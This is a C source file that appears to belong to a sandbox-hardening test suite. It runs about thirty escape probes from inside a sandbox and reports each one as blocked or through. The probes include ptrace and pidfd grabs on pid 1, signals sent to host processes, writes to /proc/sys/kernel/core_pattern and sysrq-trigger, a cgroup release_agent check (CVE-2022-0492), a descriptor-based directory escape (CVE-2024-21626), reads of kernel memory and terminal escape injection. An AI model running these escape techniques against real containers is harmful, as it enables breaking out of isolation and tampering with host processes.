/*
 * Attacks from inside on /proc, on descriptors, on other processes (signals), on the terminal and
 * on the channel of pid 1. Part of bridle-attack.
 */
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack/inside.h"
#include "wire/wire.h"

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif

/* ---- descriptors ---- */

/* What a descriptor is, as the kernel names it. */
static const char *target_of(const char *dir, const char *name)
{
    static char target[4096];
    char link[300];
    snprintf(link, sizeof(link), "%s/%s", dir, name);
    ssize_t n = readlink(link, target, sizeof(target) - 1);
    target[n > 0 ? n : 0] = 0;
    return target;
}

/* Descriptors that this process was started with: 0 to 2 only, and those lead to no host file. */
static int inherited(void)
{
    DIR *d = opendir("/proc/self/fd");
    if (!d)
        return in_failed("/proc/self/fd: %s", strerror(errno));
    for (struct dirent *e; (e = readdir(d));) {
        int fd = atoi(e->d_name);
        if (e->d_name[0] == '.' || fd == dirfd(d))
            continue;
        const char *target = target_of("/proc/self/fd", e->d_name);
        if (fd > 2)
            return in_through("descriptor %d is open: %s", fd, target);
        if (strcmp(target, "/dev/null") != 0 && strncmp(target, "pipe:", 5) != 0)
            return in_through("descriptor %d is %s", fd, target);
    }
    closedir(d);
    return in_blocked("0 to 2: /dev/null and pipes");
}

/* CVE-2024-21626: a descriptor of the runtime that leads out, as a directory to start from. */
static int fd_as_directory(void)
{
    const char *token = in_need("token"), *secret = in_need("secret");
    char path[8192];
    for (int fd = 0; fd < 1024; fd++) {
        const char *bases[] = {"/proc/self/fd", "/proc/1/fd"};
        for (unsigned b = 0; b < 2; b++) {
            snprintf(path, sizeof(path), "%s/%d/../../../../..%s", bases[b], fd, secret);
            const char *text = in_read(path);
            if (text && strstr(text, token))
                return in_through("the host's file was read as '%s'", path);
            snprintf(path, sizeof(path), "%s/%d/secret", bases[b], fd);
            text = in_read(path);
            if (text && strstr(text, token))
                return in_through("the host's file was read as '%s'", path);
        }
    }
    return in_blocked("no descriptor leads out");
}

/* A socket among the descriptors, of this process or of pid 1, that somebody else answers on. */
static int socket_descriptor(void)
{
    for (int fd = 0; fd < 1024; fd++) {
        int type;
        socklen_t n = sizeof(type);
        if (getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &n) == 0)
            return in_through("descriptor %d is a socket", fd);
    }
    return in_blocked("no descriptor is a socket");
}

/* A result that pid 1 never sent, on the channel of pid 1. */
static int forge_result(void)
{
    struct {
        struct br_msg_header head;
        unsigned char body[13]; /* u8 ok, u32 code, u32 length of text, u32 inline blob */
    } __attribute__((packed)) msg = {
        .head = {.type = BR_MSG_INIT_RESULT, .len = 13, .id = 0x666},
    };
    int sent = 0;
    char link[64];
    for (int fd = 0; fd < 128; fd++)
        sent += send(fd, &msg, sizeof(msg), MSG_NOSIGNAL | MSG_DONTWAIT) == (ssize_t)sizeof(msg);
    for (int fd = 0; fd < 64; fd++) { /* sockets cannot be opened this way; asked all the same */
        snprintf(link, sizeof(link), "/proc/1/fd/%d", fd);
        int again = open(link, O_RDWR | O_CLOEXEC | O_NONBLOCK);
        if (again >= 0) {
            struct stat st;
            if (fstat(again, &st) == 0 && S_ISSOCK(st.st_mode))
                return in_through("the channel of pid 1 was opened");
            close(again);
        }
    }
    return sent ? in_through("a forged result was sent on %d descriptor(s)", sent)
                : in_blocked("no channel to send on");
}

/* ---- pid 1 ---- */

static int look_into_init(void)
{
    static const char *const files[] = {"/proc/1/mem",  "/proc/1/environ", "/proc/1/maps",
                                        "/proc/1/auxv", "/proc/1/syscall", "/proc/1/stack"};
    static const char *const links[] = {"/proc/1/root", "/proc/1/cwd", "/proc/1/exe",
                                        "/proc/1/fd/0", "/proc/1/ns/mnt"};
    char target[4096];
    for (unsigned i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
        int fd = open(files[i], O_RDONLY | O_CLOEXEC);
        if (fd >= 0)
            return in_through("'%s' was opened", files[i]);
    }
    for (unsigned i = 0; i < sizeof(links) / sizeof(links[0]); i++)
        if (readlink(links[i], target, sizeof(target)) > 0)
            return in_through("'%s' can be followed", links[i]);
    return in_blocked("%s", strerror(errno));
}

static int write_init_memory(void)
{
    int fd = open("/proc/1/mem", O_RDWR | O_CLOEXEC);
    return fd >= 0 ? in_through("the memory of pid 1 is open for writing")
                   : in_blocked("%s", strerror(errno));
}

static int ptrace_init(void)
{
    pid_t init = getppid();
    if (ptrace(PTRACE_SEIZE, init, NULL, NULL) == 0)
        return in_through("pid %d was seized", (int)init);
    int e = errno;
    if (ptrace(PTRACE_ATTACH, init, NULL, NULL) == 0)
        return in_through("pid %d was attached to", (int)init);
    return in_blocked("%s", strerror(e));
}

static int getfd_init(void)
{
    int pidfd = (int)syscall(SYS_pidfd_open, getppid(), 0);
    if (pidfd < 0)
        return in_blocked("pidfd_open: %s", strerror(errno));
    for (int fd = 3; fd < 16; fd++)
        if (syscall(SYS_pidfd_getfd, pidfd, fd, 0) >= 0)
            return in_through("descriptor %d of pid 1 was taken", fd);
    return in_blocked("%s", strerror(errno));
}

/* The parent must survive it; whether it does is looked at from outside. */
static int kill_init(void)
{
    static const int signals[] = {SIGTERM, SIGINT, SIGHUP, SIGSEGV, SIGUSR1, SIGSTOP, SIGKILL};
    pid_t init = getppid();
    for (unsigned i = 0; i < sizeof(signals) / sizeof(signals[0]); i++)
        (void)kill(init, signals[i]);
    usleep(100000);
    return in_blocked("every signal was sent; whether pid 1 lives is seen from outside");
}

static int child_of_init_exits(void)
{
    /* orphans in great number, ended and not: pid 1 must reap them */
    for (int i = 0; i < 200; i++) {
        pid_t pid = fork();
        if (pid == 0) {
            if (fork() == 0)
                _exit(0);
            _exit(0);
        }
        if (pid > 0)
            waitpid(pid, NULL, 0);
    }
    return in_blocked("200 orphans were left");
}

/* ---- processes of the host ---- */

static int kill_victim(void)
{
    pid_t pid = (pid_t)in_number("victim");
    if (kill(pid, SIGUSR1) == 0)
        return in_through("a signal was sent to process %d of the host", (int)pid);
    return in_blocked("%s", strerror(errno));
}

static int kill_group(void)
{
    pid_t pid = (pid_t)in_number("victim");
    return kill(-pid, SIGUSR1) == 0 ? in_through("the process group %d was signalled", (int)pid)
                                    : in_blocked("%s", strerror(errno));
}

static int pidfd_victim(void)
{
    int fd = (int)syscall(SYS_pidfd_open, (pid_t)in_number("victim"), 0);
    if (fd < 0)
        return in_blocked("%s", strerror(errno));
    return syscall(SYS_pidfd_send_signal, fd, SIGUSR1, NULL, 0) == 0
               ? in_through("a signal was sent through a pidfd")
               : in_blocked("%s", strerror(errno));
}

/* Only signal 0: whom a kill(-1) would reach. */
static int kill_everybody(void)
{
    if (kill(-1, 0) == 0)
        return in_through("kill(-1) would reach processes that are not this sandbox's");
    return in_blocked("%s", strerror(errno));
}

static int see_victim(void)
{
    char path[64];
    snprintf(path, sizeof(path), "/proc/%ld/status", in_number("victim"));
    const char *text = in_read(path);
    return text ? in_through("a process of the host is visible")
                : in_blocked("%s", strerror(errno));
}

static int mounted_proc(void)
{
    char path[64];
    snprintf(path, sizeof(path), "/workspace/chroot/proc/%ld/status", in_number("victim"));
    return in_read(path) ? in_through("'%s' was read", path) : in_blocked("%s", strerror(errno));
}

static int victim_files(void)
{
    static const char *const names[] = {"environ", "mem", "maps", "root/etc/hostname", "cwd/."};
    char path[128];
    for (unsigned i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
        snprintf(path, sizeof(path), "/proc/%ld/%s", in_number("victim"), names[i]);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd >= 0)
            return in_through("'%s' of a process of the host was opened", names[i]);
    }
    return in_blocked("%s", strerror(errno));
}

static int vm_readv_victim(void)
{
    char byte;
    struct {
        void *p;
        size_t n;
    } local = {&byte, 1}, remote = {(void *)(uintptr_t)strtoull(in_need("address"), NULL, 10), 1};
    return syscall(SYS_process_vm_readv, (pid_t)in_number("victim"), &local, 1, &remote, 1, 0) == 1
               ? in_through("memory of a process of the host was read")
               : in_blocked("%s", strerror(errno));
}

/* ---- /proc ---- */

static int proc_writable(void)
{
    static const char *const files[] = {
        "/proc/self/oom_score_adj",      "/proc/self/comm",
        "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger",
        "/proc/sys/kernel/hostname",     "/proc/sys/fs/binfmt_misc/register",
        "/proc/self/attr/current",       "/proc/self/uid_map",
        "/proc/sys/vm/panic_on_oom",     "/proc/irq/default_smp_affinity",
    };
    for (unsigned i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
        int fd = open(files[i], O_WRONLY | O_CLOEXEC);
        if (fd >= 0)
            return in_through("'%s' was opened for writing", files[i]);
    }
    return in_blocked("%s", strerror(errno));
}

static int proc_masked(void)
{
    static const char *const files[] = {"/proc/keys", "/proc/kcore", "/proc/timer_list",
                                        "/proc/sysrq-trigger"};
    struct stat proc, st;
    char byte;
    if (stat("/proc/self/status", &proc) < 0)
        return in_failed("%s", strerror(errno));
    for (unsigned i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
        if (lstat(files[i], &st) < 0)
            continue;
        if (st.st_dev == proc.st_dev)
            return in_through("'%s' is not masked", files[i]);
        int fd = open(files[i], O_RDONLY | O_CLOEXEC | O_NONBLOCK);
        if (S_ISLNK(st.st_mode) || (fd >= 0 && read(fd, &byte, 1) > 0))
            return in_through("the mask of '%s' is not empty", files[i]);
        close(fd);
    }
    return in_blocked("masked with something empty, or absent");
}

static int kernel_addresses(void)
{
    const char *text = in_read(in_operation ? in_need("kallsyms") : "/proc/kallsyms");
    if (!text)
        return in_blocked("%s", strerror(errno));
    for (const char *p = text; *p; p++)
        if ((p == text || p[-1] == '\n') && strtoull(p, NULL, 16) != 0)
            return in_through("/proc/kallsyms shows addresses of the kernel");
    return in_blocked("only zeros");
}

static int kernel_memory(void)
{
    static const char *const files[] = {
        "/proc/kcore",       "/dev/mem",      "/dev/kmem",
        "/dev/kmsg",         "/dev/port",     "/proc/kmsg",
        "/sys/kernel/debug", "/sys/firmware", "/sys/kernel/uevent_helper",
        "/sys/power/state",  "/sys/kernel",   "/sys/module",
        "/sys/block"};
    char byte;
    for (unsigned i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
        int fd = open(files[i], O_RDONLY | O_CLOEXEC | O_NONBLOCK);
        if (fd < 0)
            continue;
        struct stat st;
        bool dir = fstat(fd, &st) == 0 && S_ISDIR(st.st_mode);
        if (dir || read(fd, &byte, 1) > 0)
            return in_through("'%s' can be read", files[i]);
        close(fd);
    }
    return in_blocked("%s", strerror(errno));
}

/* Does this hierarchy (its own part of it, read-only, is there for programs to see their limits)
 * allow more? */
static int cgroup_mount(const char *point, const char *root, const char *opts)
{
    static const char *const files[] = {
        "cgroup.procs",          "tasks",      "release_agent", "notify_on_release",
        "memory.limit_in_bytes", "memory.max", "cgroup.kill"};
    char path[4200];
    if (strncmp(opts, "ro", 2) != 0)
        return in_through("the hierarchy of cgroups at '%s' is writable", point);
    if (strcmp(root, "/") != 0)
        return in_through("the cgroups of others are visible at '%s'", point);
    for (unsigned i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
        snprintf(path, sizeof(path), "%s/%s", point, files[i]);
        if (open(path, O_WRONLY | O_CLOEXEC) >= 0)
            return in_through("'%s' was opened for writing", path);
    }
    snprintf(path, sizeof(path), "%s/more", point);
    return mkdir(path, 0755) == 0 ? in_through("a cgroup was made at '%s'", point) : 0;
}

/* CVE-2022-0492 and its kin: a release agent, or the limits of this or of another sandbox. */
static int cgroup_files(void)
{
    char *text = strdup(in_read("/proc/self/mountinfo") ?: "");
    char *save = NULL;
    int r = *text ? 0 : in_failed("no /proc/self/mountinfo");
    for (char *line = strtok_r(text, "\n", &save); line && r == 0;
         line = strtok_r(NULL, "\n", &save)) {
        char root[1024], point[4096], opts[1024];
        if (strstr(line, " - cgroup") &&
            sscanf(line, "%*s %*s %*s %1023s %4095s %1023s", root, point, opts) == 3)
            r = cgroup_mount(point, root, opts);
    }
    free(text);
    return r ? r : in_blocked("its own at most, read-only");
}

static int environment_marker(void)
{
    extern char **environ;
    const char *token = in_need("token");
    for (char **e = environ; *e; e++)
        if (strstr(*e, token))
            return in_through("the environment holds the launcher's");
    int fd = open("/proc/1/environ", O_RDONLY | O_CLOEXEC);
    static char text[65536];
    ssize_t n = fd >= 0 ? read(fd, text, sizeof(text) - 1) : -1;
    if (n > 0 && memmem(text, (size_t)n, token, strlen(token)))
        return in_through("the environment of pid 1 holds the launcher's");
    return in_blocked("nothing of the launcher's environment");
}

/* ---- core dumps ---- */

static int core_dump(void)
{
    if (chdir("/tmp") < 0)
        return in_failed("%s", strerror(errno));
    pid_t pid = fork();
    int status = 0;
    if (pid == 0)
        abort();
    if (pid < 0 || waitpid(pid, &status, 0) != pid)
        return in_failed("%s", strerror(errno));
    struct rlimit l;
    if (WCOREDUMP(status))
        return in_through("a core was dumped, by a pattern that the host chose");
    if (getrlimit(RLIMIT_CORE, &l) == 0 && l.rlim_cur != 0)
        return in_through("RLIMIT_CORE is %llu", (unsigned long long)l.rlim_cur);
    return in_blocked("RLIMIT_CORE is 0, no core");
}

/* ---- the terminal ---- */

static int open_terminal(void)
{
    int fd = open("/dev/tty", O_RDWR | O_CLOEXEC | O_NOCTTY);
    if (fd < 0)
        return in_blocked("%s", strerror(errno));
    (void)!write(fd, in_need("token"), strlen(in_need("token")));
    return in_through("the terminal of the operator was opened and written to");
}

static int no_terminal_fds(void)
{
    for (int fd = 0; fd < 256; fd++)
        if (isatty(fd))
            return in_through("descriptor %d is a terminal", fd);
    for (int fd = 0; fd < 64; fd++) {
        char link[64];
        snprintf(link, sizeof(link), "/proc/1/fd/%d", fd);
        char target[256] = "";
        if (readlink(link, target, sizeof(target) - 1) > 0 && strncmp(target, "/dev/pts/", 9) == 0)
            return in_through("descriptor %d of pid 1 is a terminal", fd);
    }
    return in_blocked("no descriptor is a terminal");
}

static int session_of_its_own(void)
{
    /* the launcher's session has no number in here: 0 */
    return getsid(0) == 0 ? in_through("it is in the session of the launcher")
                          : in_blocked("session %d", (int)getsid(0));
}

static int escape_output(void)
{
    return in_blocked("\x1b]0;owned\a\x1b[2J\x1b[31mforged\x1b[0m\r\x9b"
                      "31m");
}

static int abstract_marker(void)
{
    const char *text = in_read("/proc/net/unix");
    return text && strstr(text, in_need("abstract"))
               ? in_through("the host's abstract sockets are listed")
               : in_blocked("not listed");
}

const struct in_attack in_proc[] = {
    {"inherited", inherited},
    {"fd-as-directory", fd_as_directory},
    {"socket-descriptor", socket_descriptor},
    {"forge-result", forge_result},
    {"look-into-init", look_into_init},
    {"write-init-memory", write_init_memory},
    {"ptrace-init", ptrace_init},
    {"getfd-init", getfd_init},
    {"kill-init", kill_init},
    {"orphans", child_of_init_exits},
    {"kill-victim", kill_victim},
    {"kill-group", kill_group},
    {"pidfd-victim", pidfd_victim},
    {"kill-everybody", kill_everybody},
    {"see-victim", see_victim},
    {"mounted-proc", mounted_proc},
    {"victim-files", victim_files},
    {"vm-readv-victim", vm_readv_victim},
    {"proc-writable", proc_writable},
    {"proc-masked", proc_masked},
    {"kernel-addresses", kernel_addresses},
    {"kernel-memory", kernel_memory},
    {"cgroup-files", cgroup_files},
    {"environment-marker", environment_marker},
    {"core-dump", core_dump},
    {"open-terminal", open_terminal},
    {"no-terminal-fds", no_terminal_fds},
    {"session", session_of_its_own},
    {"escape-output", escape_output},
    {"abstract-marker", abstract_marker},
    {NULL, NULL},
};
